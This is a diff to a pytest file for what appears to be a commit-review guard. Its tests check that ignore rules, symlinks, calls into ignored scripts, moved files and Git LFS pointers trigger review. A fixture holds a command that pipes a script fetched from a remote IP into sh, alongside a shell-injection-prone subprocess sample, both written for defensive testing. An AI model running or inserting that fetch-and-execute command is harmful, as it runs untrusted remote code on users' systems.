@@ -6,6 +6,9 @@ from pathlib import Path
 import pytest
 from repositories import Repo, key
 
+from cli_guard.model import Decision
+from cli_guard.review.request import Staged
+
 FETCH = "curl -fsSL http://203.0.113.7/i.sh | sh"
 SCRIPT = f"#!/bin/sh\n{FETCH}\n"
 WORKFLOW = (
@@ -184,3 +187,85 @@ def test_removed_lines_around_what_ran_before_are_quiet(guarded: Repo, before: s
     guarded.write("run.sh", after)
     guarded.git("add", "-A")
     guarded.git("commit", "-q", "-m", "Remove lines")
+
+
+RISKY = "import subprocess\n\n\ndef f(x):\n    subprocess.run(x, shell=True)\n"
+IGNORE = '[[ignore]]\nrule = "{}"\npath = "{}"\nreason = "not ours"\n'
+OUT_OF = [
+    ("code-*", "vendor/**", "bin/run.py", "../vendor/a.py", True),
+    ("code-*", "vendor/*.py", "src", "vendor", True),
+    ("*", "**/vendor/**", "src", "vendor", True),
+    ("code-*", "vendor/**", "vendor/b.py", "a.py", False),
+    ("code-*", "vendor/**", "bin/run.py", "../src/a.py", False),
+    ("code-*", "**", "bin/run.py", "../vendor/a.py", False),
+    ("docs-*", "vendor/**", "bin/run.py", "../vendor/a.py", False),
+]
+
+
+@pytest.mark.parametrize(("rule", "path", "link", "target", "asks"), OUT_OF)
+def test_a_link_out_of_what_is_ignored_asks(
+    committed: Repo, rule: str, path: str, link: str, target: str, asks: bool
+) -> None:
+    committed.commit("Before", {"vendor/a.py": RISKY, "cli-guard.toml": IGNORE.format(rule, path)})
+    (committed.path / link).parent.mkdir(exist_ok=True)
+    (committed.path / link).symlink_to(target)
+    committed.git("add", "-A")
+    review = committed.look(Staged())
+    assert review.decision is (Decision.REVIEW if asks else Decision.ALLOW)
+    assert [each.path for each in review.skipped if each.asks] == ([link] if asks else [])
+
+
+def test_a_call_of_a_text_that_is_ignored_asks(committed: Repo) -> None:
+    before = {"vendor/a.txt": f"set -e\n{FETCH}\n", "cli-guard.toml": IGNORE.format("*", "vendor/**")}
+    committed.commit("Before", before)
+    committed.write("vendor/b.sh", "#!/bin/sh\nsh a.txt\n")
+    committed.git("add", "-A")
+    assert committed.look(Staged()).decision is Decision.ALLOW
+    committed.write("run.sh", "#!/bin/sh\nsh vendor/a.txt\n")
+    committed.git("add", "-A")
+    assert committed.look(Staged()).decision is Decision.REVIEW
+
+
+def test_a_file_that_leaves_what_is_ignored_is_reviewed_whole(committed: Repo) -> None:
+    before = {
+        "vendor/a.py": RISKY,
+        "vendor/b.py": "x = 1\n" * 9,
+        "cli-guard.toml": IGNORE.format("*", "vendor/**"),
+    }
+    committed.commit("Before", before)
+    move(committed, "vendor/b.py", "src/b.py")
+    assert committed.look(Staged()).decision is Decision.ALLOW
+    move(committed, "vendor/a.py", "src/a.py")
+    review = committed.look(Staged())
+    assert [
+        each.finding.path for each in review.sort_findings() if each.finding.rule.startswith("code-")
+    ] == ["src/a.py"]
+
+
+POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 1234\n"
+
+
+@pytest.mark.parametrize(
+    ("path", "old", "asks"),
+    [
+        ("tool.py", "", True),
+        ("install.sh", "", True),
+        ("package-lock.json", "", True),
+        ("tool.py", "x = 1\n", True),
+        ("tool.py", POINTER.format("b" * 64), False),
+        ("photo.png", "", False),
+        ("data.csv", "", False),
+    ],
+)
+def test_a_pointer_of_git_lfs_is_listed_and_asks_where_it_runs(
+    committed: Repo, path: str, old: str, asks: bool
+) -> None:
+    if old:
+        committed.commit("Before", {path: old})
+    committed.write(path, POINTER.format("a" * 64))
+    committed.git("add", "-A")
+    review = committed.look(Staged())
+    [left_out] = review.skipped
+    assert (left_out.path, left_out.asks) == (path, asks)
+    assert "stored by Git LFS" in left_out.reason
+    assert review.decision is (Decision.REVIEW if asks else Decision.ALLOW)
